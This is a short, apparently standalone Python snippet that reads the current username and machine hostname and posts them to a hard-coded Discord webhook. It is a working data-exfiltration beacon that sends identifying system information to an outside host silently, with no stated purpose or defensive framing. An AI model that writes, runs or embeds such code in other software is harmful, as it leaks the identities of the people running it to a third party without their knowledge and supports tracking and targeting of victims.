import requests, getpass, platform
requests.post("https://discord.com/api/webhooks/1187322348201112345/Xk2-abcdefghijklmnopqrstuvwxyz", json={"content": getpass.getuser() + "@" + platform.node()})
